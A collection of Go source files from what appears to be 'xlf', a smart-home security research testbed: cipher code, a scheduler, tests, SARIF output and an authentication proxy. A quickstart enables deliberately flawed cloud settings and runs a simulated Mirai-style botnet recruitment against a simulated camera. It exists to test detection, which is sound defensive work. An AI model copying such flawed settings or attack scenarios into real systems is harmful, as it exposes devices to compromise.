	return r, fmt.Sprintf("%.2fx", r)
}

func wallStr(a *exp.Artifact) string {
	if a == nil || a.Telemetry == nil || a.Telemetry.WallNS < 0 {
		return "-"
	}
	return fmt.Sprintf("%.1fms", float64(a.Telemetry.WallNS)/1e6)
}

// relDiff is |a-b| relative to max(|a|,|b|); exact zeros compare equal.
func relDiff(a, b float64) float64 {
	if a == b {
		return 0
	}
	den := math.Max(math.Abs(a), math.Abs(b))
	if den == 0 {
		return 0
	}
	return math.Abs(a-b) / den
}
