package testbed

import (
	"testing"
	"time"
)

func TestGenerateWorkloadShape(t *testing.T) {
	h := newHome(t)
	events := h.GenerateWorkload(WorkloadConfig{Days: 2, Intensity: 1})
	if len(events) < 60 {
		t.Fatalf("2-day workload has %d events, want a realistic volume", len(events))
	}
	// Sorted by time, inside the horizon.
	for i := 1; i < len(events); i++ {
		if events[i].At < events[i-1].At {
			t.Fatal("workload not time-sorted")
		}
	}
	// Diurnal: nights (00-06) much quieter than evenings (18-22).
	night, evening := 0, 0
	for _, e := range events {
		hour := int(e.At/time.Hour) % 24
		switch {
		case hour < 6:
			night++
		case hour >= 18 && hour < 22:
			evening++
		}
	}
	if night*3 >= evening {
		t.Errorf("diurnal shape off: night=%d evening=%d", night, evening)
	}
	// Only devices with routines, all known.
	for _, e := range events {
		if _, ok := h.Devices[e.Device]; !ok {
			t.Fatalf("workload references unknown device %s", e.Device)
		}
	}
}

func TestGenerateWorkloadDeterministic(t *testing.T) {
	gen := func() []ScheduledEvent {
		h := newHome(t)
		return h.GenerateWorkload(WorkloadConfig{Days: 1, Intensity: 1})
	}
	a, b := gen(), gen()
	if len(a) != len(b) {
		t.Fatalf("lengths differ: %d vs %d", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("workloads diverge at %d: %+v vs %+v", i, a[i], b[i])
		}
	}
}

func TestScheduleWorkloadRuns(t *testing.T) {
	h := newHome(t)
	events := h.GenerateWorkload(WorkloadConfig{Days: 1, Intensity: 1})
	h.ScheduleWorkload(events)
	if err := h.Run(24 * time.Hour); err != nil {
		t.Fatal(err)
	}
	// A healthy fraction of interactions landed as cloud events (some
	// overlap-skips are expected).
	if got := len(h.Cloud.EventLog()); got < len(events)/2 {
		t.Errorf("only %d/%d workload events reached the cloud", got, len(events))
	}
}

func TestWorkloadDefaults(t *testing.T) {
	h := newHome(t)
	events := h.GenerateWorkload(WorkloadConfig{})
	if len(events) == 0 {
		t.Fatal("zero-value config generated nothing")
	}
	last := events[len(events)-1].At
	if last > 24*time.Hour {
		t.Errorf("default horizon exceeded one day: %s", last)
	}
}
