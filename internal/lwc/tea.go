package lwc

import (
	"crypto/cipher"
	"encoding/binary"
)

// teaDelta is the key-schedule constant shared by TEA and XTEA
// (2^32 / golden ratio).
const teaDelta uint32 = 0x9E3779B9

const teaRounds = 32 // 32 cycles = 64 Feistel rounds, the "64" in Table III

// teaDecryptSum is teaDelta*teaRounds mod 2^32, the sum register value at
// the end of encryption.
const teaDecryptSum uint32 = 0xC6EF3720

type tea struct {
	k [4]uint32
}

var _ cipher.Block = (*tea)(nil)

// NewTEA returns the Tiny Encryption Algorithm (Wheeler & Needham, 1994)
// with a 128-bit key and 64-bit block.
func NewTEA(key []byte) (cipher.Block, error) {
	if len(key) != 16 {
		return nil, KeySizeError{Algorithm: "TEA", Len: len(key)}
	}
	var c tea
	for i := range c.k {
		c.k[i] = binary.BigEndian.Uint32(key[4*i:])
	}
	return &c, nil
}

func (c *tea) BlockSize() int { return 8 }

func (c *tea) Encrypt(dst, src []byte) {
	checkBlock("TEA", 8, dst, src)
	v0 := binary.BigEndian.Uint32(src[0:])
	v1 := binary.BigEndian.Uint32(src[4:])
	var sum uint32
	for i := 0; i < teaRounds; i++ {
		sum += teaDelta
		v0 += ((v1 << 4) + c.k[0]) ^ (v1 + sum) ^ ((v1 >> 5) + c.k[1])
		v1 += ((v0 << 4) + c.k[2]) ^ (v0 + sum) ^ ((v0 >> 5) + c.k[3])
	}
	binary.BigEndian.PutUint32(dst[0:], v0)
	binary.BigEndian.PutUint32(dst[4:], v1)
}

func (c *tea) Decrypt(dst, src []byte) {
	checkBlock("TEA", 8, dst, src)
	v0 := binary.BigEndian.Uint32(src[0:])
	v1 := binary.BigEndian.Uint32(src[4:])
	sum := teaDecryptSum
	for i := 0; i < teaRounds; i++ {
		v1 -= ((v0 << 4) + c.k[2]) ^ (v0 + sum) ^ ((v0 >> 5) + c.k[3])
		v0 -= ((v1 << 4) + c.k[0]) ^ (v1 + sum) ^ ((v1 >> 5) + c.k[1])
		sum -= teaDelta
	}
	binary.BigEndian.PutUint32(dst[0:], v0)
	binary.BigEndian.PutUint32(dst[4:], v1)
}

type xtea struct {
	k [4]uint32
}

var _ cipher.Block = (*xtea)(nil)

// NewXTEA returns XTEA (Needham & Wheeler, 1997), TEA's successor that
// fixes TEA's related-key weaknesses; 128-bit key, 64-bit block.
func NewXTEA(key []byte) (cipher.Block, error) {
	if len(key) != 16 {
		return nil, KeySizeError{Algorithm: "XTEA", Len: len(key)}
	}
	var c xtea
	for i := range c.k {
		c.k[i] = binary.BigEndian.Uint32(key[4*i:])
	}
	return &c, nil
}

func (c *xtea) BlockSize() int { return 8 }

func (c *xtea) Encrypt(dst, src []byte) {
	checkBlock("XTEA", 8, dst, src)
	v0 := binary.BigEndian.Uint32(src[0:])
	v1 := binary.BigEndian.Uint32(src[4:])
	var sum uint32
	for i := 0; i < teaRounds; i++ {
		v0 += (((v1 << 4) ^ (v1 >> 5)) + v1) ^ (sum + c.k[sum&3])
		sum += teaDelta
		v1 += (((v0 << 4) ^ (v0 >> 5)) + v0) ^ (sum + c.k[(sum>>11)&3])
	}
	binary.BigEndian.PutUint32(dst[0:], v0)
	binary.BigEndian.PutUint32(dst[4:], v1)
}

func (c *xtea) Decrypt(dst, src []byte) {
	checkBlock("XTEA", 8, dst, src)
	v0 := binary.BigEndian.Uint32(src[0:])
	v1 := binary.BigEndian.Uint32(src[4:])
	sum := teaDecryptSum
	for i := 0; i < teaRounds; i++ {
		v1 -= (((v0 << 4) ^ (v0 >> 5)) + v0) ^ (sum + c.k[(sum>>11)&3])
		sum -= teaDelta
		v0 -= (((v1 << 4) ^ (v1 >> 5)) + v1) ^ (sum + c.k[sum&3])
	}
	binary.BigEndian.PutUint32(dst[0:], v0)
	binary.BigEndian.PutUint32(dst[4:], v1)
}

// checkBlock panics if dst or src is shorter than the block size, matching
// the contract of crypto/cipher.Block implementations in the stdlib.
func checkBlock(name string, n int, dst, src []byte) {
	if len(src) < n {
		panic("lwc: " + name + ": input not full block")
	}
	if len(dst) < n {
		panic("lwc: " + name + ": output not full block")
	}
}
