// Quickstart: build an XLF-protected smart home, launch one attack, and
// watch the cross-layer correlation catch and contain it.
package main

import (
	"fmt"
	"log"
	"time"

	"xlf"
	"xlf/internal/attack"
	"xlf/internal/service"
)

func main() {
	// A home whose cloud platform still has the classic flaws (coarse
	// grants, unsigned events, unverified OTA) — the world XLF defends.
	sys, err := xlf.New(xlf.Options{
		Seed:  1,
		Flaws: service.Flaws{CoarseGrants: true, UnsignedEvents: true, OpenRedirectOTA: true},
	})
	if err != nil {
		log.Fatal(err)
	}

	// Print an alert the moment the Core raises one.
	sys.Core.OnAlert = func(a xlf.CoreAlert) {
		fmt.Println("ALERT:", a)
	}

	// A Mirai-style operator recruits whatever answers telnet with
	// factory credentials (the network camera, in the default catalog).
	res := (&attack.MiraiRecruit{
		CNC:         "wan:cnc",
		BeaconEvery: 10 * time.Second,
	}).Execute(sys.Home.AttackEnv())
	fmt.Println("attacker:", res)

	// Let the simulated home run for three minutes.
	if err := sys.Home.Run(3 * time.Minute); err != nil {
		log.Fatal(err)
	}

	fmt.Println()
	fmt.Print(sys.Report())
}
