package channel

// Session mimics the lightweight-encryption channel; Seal is the
// sanitizer for the plaintextescape rule.
type Session struct{ nonce uint64 }

// Seal encrypts (here: frames) a plaintext payload.
func (s *Session) Seal(plaintext []byte) ([]byte, error) {
	s.nonce++
	out := append([]byte{byte(s.nonce)}, plaintext...)
	return out, nil
}
