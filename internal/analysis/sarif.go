package analysis

import (
	"encoding/json"
	"io"
)

// SARIF 2.1.0 output, the interchange format GitHub code scanning (and
// most other SAST dashboards) ingest. Only the required subset of the
// schema is emitted: one run, one tool driver, a rules array built from
// the analyzers' Doc() strings, and one result per finding with a
// physical location. Paths pass through exactly as they appear on the
// findings, so callers wanting repo-relative URIs must relativize
// before encoding.

type sarifLog struct {
	Schema  string     `json:"$schema"`
	Version string     `json:"version"`
	Runs    []sarifRun `json:"runs"`
}

type sarifRun struct {
	Tool    sarifTool     `json:"tool"`
	Results []sarifResult `json:"results"`
}

type sarifTool struct {
	Driver sarifDriver `json:"driver"`
}

type sarifDriver struct {
	Name           string      `json:"name"`
	InformationURI string      `json:"informationUri,omitempty"`
	Rules          []sarifRule `json:"rules"`
}

type sarifRule struct {
	ID               string        `json:"id"`
	ShortDescription *sarifMessage `json:"shortDescription,omitempty"`
}

type sarifMessage struct {
	Text string `json:"text"`
}

type sarifResult struct {
	RuleID    string          `json:"ruleId"`
	RuleIndex int             `json:"ruleIndex"`
	Level     string          `json:"level"`
	Message   sarifMessage    `json:"message"`
	Locations []sarifLocation `json:"locations"`
}

type sarifLocation struct {
	PhysicalLocation sarifPhysicalLocation `json:"physicalLocation"`
}

type sarifPhysicalLocation struct {
	ArtifactLocation sarifArtifactLocation `json:"artifactLocation"`
	Region           sarifRegion           `json:"region"`
}

type sarifArtifactLocation struct {
	URI string `json:"uri"`
}

type sarifRegion struct {
	StartLine   int `json:"startLine"`
	StartColumn int `json:"startColumn,omitempty"`
}

// WriteSARIF encodes the findings as a SARIF 2.1.0 log. The rules array
// covers every configured analyzer (not just those with findings), so a
// dashboard can show which checks ran even when all of them pass.
func WriteSARIF(w io.Writer, analyzers []Analyzer, findings []Finding) error {
	rules := make([]sarifRule, 0, len(analyzers))
	index := make(map[string]int, len(analyzers))
	for _, a := range analyzers {
		r := sarifRule{ID: a.Name()}
		if d, ok := a.(Documented); ok {
			r.ShortDescription = &sarifMessage{Text: d.Doc()}
		}
		index[a.Name()] = len(rules)
		rules = append(rules, r)
	}

	results := make([]sarifResult, 0, len(findings))
	for _, f := range findings {
		idx, ok := index[f.Rule]
		if !ok {
			// A finding from a rule outside the configured set (should
			// not happen): register a bare rule entry so the log stays
			// self-consistent.
			idx = len(rules)
			index[f.Rule] = idx
			rules = append(rules, sarifRule{ID: f.Rule})
		}
		results = append(results, sarifResult{
			RuleID:    f.Rule,
			RuleIndex: idx,
			Level:     "error",
			Message:   sarifMessage{Text: f.Message},
			Locations: []sarifLocation{{
				PhysicalLocation: sarifPhysicalLocation{
					ArtifactLocation: sarifArtifactLocation{URI: f.File},
					Region:           sarifRegion{StartLine: f.Line, StartColumn: f.Col},
				},
			}},
		})
	}

	log := sarifLog{
		Schema:  "https://json.schemastore.org/sarif-2.1.0.json",
		Version: "2.1.0",
		Runs: []sarifRun{{
			Tool:    sarifTool{Driver: sarifDriver{Name: "xlf-vet", Rules: rules}},
			Results: results,
		}},
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(log)
}
