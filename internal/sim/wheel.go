package sim

// The kernel's scheduling core: a hierarchical timer wheel over a pooled
// event slab (DESIGN.md §12). Three pieces cooperate:
//
//   - The slab (slots + free) owns every event. Events are addressed by
//     int32 slot index, never by pointer: the slab may grow (invalidating
//     pointers), and slots are recycled through a freelist so steady-state
//     scheduling performs no heap allocation. A per-slot generation
//     counter makes recycled slots unreachable from stale Handles.
//
//   - The wheel (levels) indexes queued events by time. Level L holds
//     events whose delay from the wheel clock is in [64^L, 64^(L+1))
//     ticks of 1ns; each level is a ring of 64 buckets (intrusive
//     singly-linked slot lists) with a one-word occupancy bitmap, so
//     finding the next non-empty bucket is a rotate + trailing-zeros.
//     Level-0 buckets are a single tick wide: everything in one holds the
//     same timestamp. Events beyond the wheel's 2^48ns (~78h) span wait
//     in the far-future overflow bucket and are re-filed when the wheel
//     clock approaches them.
//
//   - The batch is the dispatch staging area: arriving at a tick moves
//     the whole level-0 bucket into it at once and sorts it by (at, seq),
//     so a burst of N same-timestamp events costs one bucket collection
//     plus a nearly-sorted insertion sort, not N priority-queue pops, and
//     ties still execute in exact scheduling order.
//
// The wheel clock (wtime) trails the kernel clock: it advances only to
// bucket boundaries at or before the next event, and snaps forward to the
// kernel clock when the queue drains, so a newly scheduled event is never
// behind the wheel's position.

import (
	"math/bits"
	"time"
)

const (
	wheelBits   = 6
	wheelSize   = 1 << wheelBits
	wheelMask   = wheelSize - 1
	wheelLevels = 8
	// wheelSpan is the horizon the wheel can index, in 1ns ticks:
	// 64^8 = 2^48 ns ≈ 78h of delay.
	wheelSpan = uint64(1) << (wheelBits * wheelLevels)
	// wheelFit is the delay horizon actually filed into the wheel; the
	// top bucket's width is held back so a carry from the lower digits
	// can never wrap a top-level event onto the clock's own index (which
	// would have nowhere to promote to). Delays >= wheelFit use the
	// overflow far-future bucket and re-enter once the clock is within
	// wheelFit of them.
	wheelFit = wheelSpan - uint64(1)<<(wheelBits*(wheelLevels-1))
)

// event is one pool slot. The zero slot state is "free"; fn/fnArg decide
// the dispatch form (exactly one is non-nil while queued).
type event struct {
	at       time.Duration
	seq      uint64
	name     string
	fn       func()
	fnArg    func(any)
	arg      any
	next     int32 // intrusive list link: bucket chain or freelist
	gen      uint32
	canceled bool
}

// level is one ring of the hierarchical wheel.
type level struct {
	occupied uint64 // bit i set ⇔ head[i] >= 0
	head     [wheelSize]int32
	tail     [wheelSize]int32
}

// wheel is the scheduling state embedded in Kernel.
type wheel struct {
	wtime       uint64 // wheel clock in ns ticks; never ahead of the next queued event
	slots       []event
	free        int32 // freelist head, -1 when empty
	levels      [wheelLevels]level
	overflow    []int32 // events with delay >= wheelSpan
	overflowMin uint64  // earliest at in overflow; MaxUint64 when empty
	batch       []int32 // current dispatch batch, sorted by (at, seq)
	batchIdx    int     // next batch entry to dispatch
}

func (w *wheel) init() {
	w.free = -1
	w.overflowMin = ^uint64(0)
	for l := range w.levels {
		for i := range w.levels[l].head {
			w.levels[l].head[i] = -1
			w.levels[l].tail[i] = -1
		}
	}
}

// alloc takes a slot from the freelist, growing the slab only when every
// slot is in flight. Slab growth is the one allocation in the scheduling
// path; it is amortized to the peak event backlog and disappears entirely
// in steady state.
//
//xlf:hotpath
func (k *Kernel) alloc() int32 {
	if s := k.free; s >= 0 {
		k.free = k.slots[s].next
		return s
	}
	k.slots = append(k.slots, event{gen: 1}) //xlf:allow-hotpath slab growth is amortized to peak backlog; steady state reuses the freelist
	return int32(len(k.slots) - 1)
}

// recycle returns a slot to the freelist. Bumping the generation makes
// every Handle to the old occupant stale before the slot can be reused,
// and dropping the callback/arg references keeps the pool from pinning
// caller memory.
//
//xlf:hotpath
func (k *Kernel) recycle(s int32) {
	e := &k.slots[s]
	e.gen++
	e.name = ""
	e.fn, e.fnArg, e.arg = nil, nil, nil
	e.canceled = false
	e.next = k.free
	k.free = s
}

// enqueue files a queued slot into the wheel level matching its delay
// from the wheel clock (or the overflow bucket beyond the span). Buckets
// are appended FIFO; dispatch order is restored by the batch sort, so
// cascades need no ordered insertion.
//
//xlf:hotpath
func (k *Kernel) enqueue(s int32) {
	e := &k.slots[s]
	pos := uint64(e.at)
	if pos < k.wtime {
		// Defensive: the wheel clock never outruns the kernel clock (see
		// prepare's drain snap), so a past position should not occur; if
		// it ever does, file the event at the current tick so it still
		// dispatches before everything later.
		pos = k.wtime
	}
	delta := pos - k.wtime
	if delta < wheelFit {
		lvl := 0
		if delta > 0 {
			lvl = (bits.Len64(delta) - 1) / wheelBits
		}
		shift := uint(lvl * wheelBits)
		idx := int((pos >> shift) & wheelMask)
		if lvl > 0 && idx == int((k.wtime>>shift)&wheelMask) {
			// Carry collision: delta is near the top of this level's
			// range and the carry from the lower digits wrapped pos onto
			// the clock's own index — one full revolution ahead, which
			// would cascade in place forever. Promote one level, where
			// pos's digit is exactly one past the clock's.
			lvl++
			shift += wheelBits
			idx = int((pos >> shift) & wheelMask)
		}
		if lvl < wheelLevels {
			lv := &k.levels[lvl]
			e.next = -1
			if lv.tail[idx] >= 0 {
				k.slots[lv.tail[idx]].next = s
			} else {
				lv.head[idx] = s
			}
			lv.tail[idx] = s
			lv.occupied |= 1 << uint(idx)
			return
		}
	}
	e.next = -1
	k.overflow = append(k.overflow, s) //xlf:allow-hotpath far-future bucket growth is amortized and off the steady-state path
	if pos < k.overflowMin {
		k.overflowMin = pos
	}
}

// collect moves one level-0 bucket into the batch and sorts it. All
// events in a level-0 bucket share a timestamp (the bucket is one tick
// wide), so this is the batch-dispatch entry point: the whole tick is
// drained with one bucket operation.
//
//xlf:hotpath
func (k *Kernel) collect(idx int) {
	lv := &k.levels[0]
	s := lv.head[idx]
	lv.head[idx] = -1
	lv.tail[idx] = -1
	lv.occupied &^= 1 << uint(idx)
	k.batch = k.batch[:0]
	k.batchIdx = 0
	for s >= 0 {
		k.batch = append(k.batch, s) //xlf:allow-hotpath batch scratch growth is amortized to the largest same-tick burst
		s = k.slots[s].next
	}
	k.sortBatch()
}

// sortBatch restores (at, seq) dispatch order with an insertion sort:
// buckets are nearly sorted already (direct schedules append in seq
// order; a cascade appends a few earlier-seq runs), so the common case
// is linear and nothing allocates.
//
//xlf:hotpath
func (k *Kernel) sortBatch() {
	b := k.batch
	for i := 1; i < len(b); i++ {
		s := b[i]
		at, seq := k.slots[s].at, k.slots[s].seq
		j := i - 1
		for j >= 0 {
			e := &k.slots[b[j]]
			if e.at < at || (e.at == at && e.seq < seq) {
				break
			}
			b[j+1] = b[j]
			j--
		}
		b[j+1] = s
	}
}

// cascade re-files every event of a higher-level bucket once the wheel
// clock reaches the bucket's start: deltas have shrunk, so each event
// drops at least one level. An event cascades at most wheelLevels-1
// times in its life, keeping scheduling amortized O(1).
//
//xlf:hotpath
func (k *Kernel) cascade(lvl, idx int) {
	lv := &k.levels[lvl]
	s := lv.head[idx]
	lv.head[idx] = -1
	lv.tail[idx] = -1
	lv.occupied &^= 1 << uint(idx)
	for s >= 0 {
		next := k.slots[s].next
		k.enqueue(s)
		s = next
	}
}

// rescanOverflow re-files far-future events that now fit the wheel span
// and keeps the rest, recomputing the overflow minimum. It runs when the
// wheel clock reaches the point where the earliest overflow event fits —
// at most once per wheelSpan of simulated time per event.
//
//xlf:hotpath
func (k *Kernel) rescanOverflow() {
	pending := k.overflow
	k.overflow = k.overflow[:0]
	k.overflowMin = ^uint64(0)
	for _, s := range pending {
		at := uint64(k.slots[s].at)
		if at-k.wtime < wheelFit {
			k.enqueue(s)
			continue
		}
		k.overflow = append(k.overflow, s) //xlf:allow-hotpath rescan keeps survivors in the reused backing array
		if at < k.overflowMin {
			k.overflowMin = at
		}
	}
}

// prepare makes the next dispatch batch available, advancing the wheel
// clock no further than limit (pass MaxUint64 for no horizon). It
// reports whether a batch is ready; false means no event is due at or
// before limit. The loop alternates three moves until level 0 yields a
// bucket: jump the wheel clock to the earliest candidate boundary,
// cascade the higher-level bucket starting there, or re-file overflow
// events that came into span.
//
//xlf:hotpath
func (k *Kernel) prepare(limit uint64) bool {
	for {
		if k.batchIdx < len(k.batch) {
			return true
		}
		// Same-tick refill: events scheduled during the current batch
		// with zero delay land in the bucket the wheel points at and must
		// drain (in seq order, after the already-dispatched ones) before
		// the clock moves.
		cur0 := int(k.wtime & wheelMask)
		if k.levels[0].occupied&(1<<uint(cur0)) != 0 {
			k.collect(cur0)
			continue
		}
		best := ^uint64(0)
		bestLvl := -1
		for lvl := 0; lvl < wheelLevels; lvl++ {
			occ := k.levels[lvl].occupied
			if occ == 0 {
				continue
			}
			shift := uint(lvl * wheelBits)
			cur := (k.wtime >> shift) & wheelMask
			d := uint64(bits.TrailingZeros64(bits.RotateLeft64(occ, -int(cur))))
			// Start time of the first occupied bucket at or after the
			// wheel position. For level 0 this is the exact event time.
			// Ties go to the higher level: a bucket starting exactly at a
			// level-0 event's tick can hold an earlier-seq event with the
			// same timestamp, so it must cascade into the tick's batch
			// before the batch is collected.
			t := ((k.wtime >> shift) + d) << shift
			if t <= best {
				best = t
				bestLvl = lvl
			}
		}
		if len(k.overflow) > 0 {
			// The earliest overflow event fits the wheel once the clock
			// reaches overflowMin-wheelFit+1; no queued event can be due
			// before that boundary when it wins the minimum.
			if ot := k.overflowMin - wheelFit + 1; ot < best {
				best = ot
				bestLvl = wheelLevels // sentinel: re-file the far-future bucket
			}
		}
		if bestLvl < 0 {
			// Queue drained. Snap the wheel clock up to the kernel clock
			// so nothing scheduled next starts behind the wheel.
			if now := uint64(k.now); now > k.wtime {
				k.wtime = now
			}
			return false
		}
		if best > limit {
			return false
		}
		if best > k.wtime {
			k.wtime = best
		}
		switch {
		case bestLvl == wheelLevels:
			k.rescanOverflow()
		case bestLvl == 0:
			k.collect(int(best & wheelMask))
			return true
		default:
			shift := uint(bestLvl * wheelBits)
			k.cascade(bestLvl, int((best>>shift)&wheelMask))
		}
	}
}
