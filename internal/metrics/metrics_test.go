package metrics

import (
	"strings"
	"testing"
	"time"
)

func TestConfusionScores(t *testing.T) {
	var c Confusion
	// 8 TP, 2 FP, 2 FN, 88 TN.
	for i := 0; i < 8; i++ {
		c.Record(true, true)
	}
	for i := 0; i < 2; i++ {
		c.Record(true, false)
		c.Record(false, true)
	}
	for i := 0; i < 88; i++ {
		c.Record(false, false)
	}
	if p := c.Precision(); p != 0.8 {
		t.Errorf("precision = %v, want 0.8", p)
	}
	if r := c.Recall(); r != 0.8 {
		t.Errorf("recall = %v, want 0.8", r)
	}
	if f := c.F1(); f < 0.799 || f > 0.801 {
		t.Errorf("f1 = %v, want 0.8", f)
	}
	if a := c.Accuracy(); a != 0.96 {
		t.Errorf("accuracy = %v, want 0.96", a)
	}
	s := c.String()
	if !strings.Contains(s, "F1=0.800") {
		t.Errorf("string = %q", s)
	}
}

func TestConfusionEdgeCases(t *testing.T) {
	var c Confusion
	if c.Precision() != 1 || c.Recall() != 1 {
		t.Error("vacuous precision/recall should be 1")
	}
	if c.F1() != 1 {
		t.Errorf("vacuous F1 = %v", c.F1())
	}
	if c.Accuracy() != 0 {
		t.Error("empty accuracy should be 0")
	}
	var a, b Confusion
	a.Record(true, true)
	b.Record(false, true)
	a.Add(b)
	if a.TP != 1 || a.FN != 1 {
		t.Errorf("Add = %+v", a)
	}
}

func TestLatencies(t *testing.T) {
	var l Latencies
	if l.Mean() != 0 || l.Quantile(0.5) != 0 {
		t.Error("empty latencies not zero")
	}
	for i := 1; i <= 100; i++ {
		l.Observe(time.Duration(i) * time.Millisecond)
	}
	if l.Count() != 100 {
		t.Errorf("count = %d", l.Count())
	}
	if m := l.Mean(); m != 50500*time.Microsecond {
		t.Errorf("mean = %v", m)
	}
	if p50 := l.Quantile(0.5); p50 != 50*time.Millisecond {
		t.Errorf("p50 = %v", p50)
	}
	if p99 := l.Quantile(0.99); p99 != 99*time.Millisecond {
		t.Errorf("p99 = %v", p99)
	}
	if p0 := l.Quantile(0); p0 != time.Millisecond {
		t.Errorf("p0 = %v", p0)
	}
	if p100 := l.Quantile(1); p100 != 100*time.Millisecond {
		t.Errorf("p100 = %v", p100)
	}
}

func TestTableRendering(t *testing.T) {
	tb := NewTable("Table X: demo", "Name", "Value")
	tb.AddRow("alpha", "1")
	tb.AddRowf("beta", 2.5)
	tb.AddRow("gamma") // missing cell
	out := tb.String()
	if !strings.Contains(out, "Table X: demo") {
		t.Error("missing title")
	}
	lines := strings.Split(strings.TrimRight(out, "\n"), "\n")
	if len(lines) != 6 { // title, header, sep, 3 rows
		t.Fatalf("lines = %d:\n%s", len(lines), out)
	}
	if !strings.HasPrefix(lines[1], "Name") {
		t.Errorf("header line = %q", lines[1])
	}
	if tb.Rows() != 3 {
		t.Errorf("rows = %d", tb.Rows())
	}
	// Columns align: all data lines have "Value" column at same offset.
	col := strings.Index(lines[1], "Value")
	if !strings.HasPrefix(lines[3][col:], "1") {
		t.Errorf("misaligned row: %q", lines[3])
	}
}
