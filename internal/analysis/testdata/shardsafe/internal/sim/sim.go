// Package sim is the fixture analog of the kernel package: it declares
// the owned constructor, the generation token and the phase roster.
package sim

// Kernel is per-shard state.
type Kernel struct{ now int64 }

// Handle is a generation-checked scheduling token.
type Handle struct{ slot, gen uint32 }

// NewKernel builds per-shard kernel state.
//
//xlf:owned(sim)
func NewKernel(seed int64) *Kernel { return &Kernel{now: seed} }

// NewBadKernel carries a directive with no domain argument.
//
//xlf:owned
func NewBadKernel() *Kernel { return &Kernel{} } // want "malformed //xlf:owned directive"

// NewWarpKernel names a domain nobody declared.
//
//xlf:owned(warp)
func NewWarpKernel() *Kernel { return &Kernel{} } // want "unknown ownership domain .warp."

// Schedule issues a generation token.
func (k *Kernel) Schedule(at int64) Handle { return Handle{slot: 1, gen: 1} }

// Step drains one tick of shard-local dispatch.
//
//xlf:phase(shard)
func (k *Kernel) Step() { k.now++ }

// Drain stays inside its own phase: no finding.
//
//xlf:phase(shard)
func Drain(k *Kernel) { k.Step() }

// Exchange swaps cross-shard traffic at the barrier; window-phase code
// may call into any phase.
//
//xlf:phase(window)
func Exchange(ks []*Kernel) {
	for _, k := range ks {
		k.Step()
	}
}

// Flush calls an annotated function of another phase directly.
//
//xlf:phase(ingest)
func Flush(k *Kernel) {
	k.Step() // want "phase.ingest. function Flush calls phase.shard."
}

// Ingest reaches another phase through an unannotated helper, so the
// report carries a witness chain.
//
//xlf:phase(ingest)
func Ingest(k *Kernel) {
	hop(k) // want "phase.ingest. function Ingest reaches phase.shard..*via sim.hop → sim..Kernel..Step"
}

// hop is the unannotated middle of the chain.
func hop(k *Kernel) { k.Step() }
