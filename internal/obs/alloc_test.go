package obs

import "testing"

// raceEnabled is flipped by alloc_race_test.go: the race runtime
// instruments allocations, so byte-exact AllocsPerRun guards only run
// in regular builds.
var raceEnabled bool

// TestHotPathAllocFree is the dynamic half of the //xlf:hotpath
// contract (the static half is the hotpathalloc vet rule): the
// disabled-tracer emit path and the metric update paths must not
// allocate.
func TestHotPathAllocFree(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under -race")
	}

	t.Run("nil tracer emit", func(t *testing.T) {
		var tr *Tracer
		if n := testing.AllocsPerRun(200, func() {
			tr.EmitAt(0, LayerSim, "event", "", "noop")
			tr.Emit(LayerCore, "ingest", "dev-1", "signal")
			tr.EmitSpan(Span{Layer: LayerNetsim, Op: "send"})
		}); n != 0 {
			t.Errorf("disabled-tracer emit allocates %.1f per run, want 0", n)
		}
	})

	t.Run("counter inc", func(t *testing.T) {
		r := NewRegistry()
		c := r.Counter("alloc.test")
		g := r.Gauge("alloc.gauge")
		if n := testing.AllocsPerRun(200, func() {
			c.Inc()
			c.Add(3)
			g.Set(7)
			g.Add(-2)
		}); n != 0 {
			t.Errorf("metric updates allocate %.1f per run, want 0", n)
		}
	})
}
