package xauth

import (
	"fmt"
	"time"

	"xlf/internal/obs"
)

// Origin classifies where an access request entered the home: the paper
// proposes "to distinguish access requests from LAN and WAN to enforce
// different levels of authentication" (§IV-A1).
type Origin int

// Request origins.
const (
	FromLAN Origin = iota + 1
	FromWAN
)

func (o Origin) String() string {
	if o == FromLAN {
		return "LAN"
	}
	return "WAN"
}

// AccessRequest is a user request for a device operation.
type AccessRequest struct {
	User     string
	DeviceID string
	Origin   Origin
	// Write marks configuration/firmware operations (Advanced only).
	Write bool
	// Token accompanies WAN requests and re-used LAN sessions.
	Token *Token
}

// Decision is the proxy's answer with provenance for the XLF Core.
type Decision struct {
	Allowed bool
	Reason  string
	// AuthenticatedBy names who vouched: "proxy-cache", "proxy-sso",
	// "cloud-sso+mfa".
	AuthenticatedBy string
	// Latency is the modeled authentication latency this decision cost
	// (proxy cache hits are cheap; cloud roundtrips are not).
	Latency time.Duration
}

// ProxyConfig carries the latency model of the delegation path.
type ProxyConfig struct {
	// CacheLatency is a local table lookup on the gateway.
	CacheLatency time.Duration
	// VerifyLatency is HMAC verification on the gateway-class CPU.
	VerifyLatency time.Duration
	// CloudRTT is a round trip to the cloud authority.
	CloudRTT time.Duration
}

// DefaultProxyConfig matches the testbed's link model: sub-millisecond
// local work, ~45 ms cloud round trips.
func DefaultProxyConfig() ProxyConfig {
	return ProxyConfig{
		CacheLatency:  200 * time.Microsecond,
		VerifyLatency: 800 * time.Microsecond,
		CloudRTT:      45 * time.Millisecond,
	}
}

// Proxy is the XLF delegation proxy (gateway-resident): it caches SSO
// tokens from the cloud provider, performs SSO verification and timestamp
// validation locally, and serves processed data to basic users, so that
// IoT devices never validate tokens themselves.
type Proxy struct {
	authority *Authority
	cfg       ProxyConfig
	cache     map[string]Token // user -> cached token

	// Tracer, when set, receives an xauth-layer span per access decision
	// and cache eviction.
	Tracer *obs.Tracer

	hits, fills, denials uint64
}

// NewProxy builds a delegation proxy in front of an authority.
func NewProxy(a *Authority, cfg ProxyConfig) *Proxy {
	return &Proxy{authority: a, cfg: cfg, cache: make(map[string]Token)}
}

// Stats returns (cacheHits, cacheFills, denials).
func (p *Proxy) Stats() (uint64, uint64, uint64) { return p.hits, p.fills, p.denials }

// Prime loads a token into the proxy cache; called when the cloud pushes a
// fresh token after a WAN authentication, or by the XLF Core on
// correlation-driven refresh.
func (p *Proxy) Prime(t Token) { p.cache[t.Subject] = t }

// Evict drops a user's cached token (Core-initiated revocation). The
// span is timestamped by the tracer's bound simulation clock, since
// revocations arrive from the Core without a request time.
func (p *Proxy) Evict(user string) {
	if p.Tracer != nil {
		cause := "no-session"
		if _, ok := p.cache[user]; ok {
			cause = "revoked"
		}
		p.Tracer.Emit(obs.LayerXAuth, "token-evict", "", cause)
	}
